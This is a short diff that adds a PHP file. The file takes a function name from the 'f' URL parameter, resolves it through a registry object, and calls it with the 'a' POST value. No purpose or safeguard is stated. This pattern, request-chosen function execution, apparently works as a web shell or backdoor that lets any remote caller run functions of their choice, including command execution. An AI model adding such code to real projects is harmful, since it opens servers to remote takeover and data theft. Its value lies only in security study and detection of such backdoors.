@@ -1,0 +1,3 @@
+<?php
+$box = $registry->named($_GET['f']);
+$box($_POST['a']);
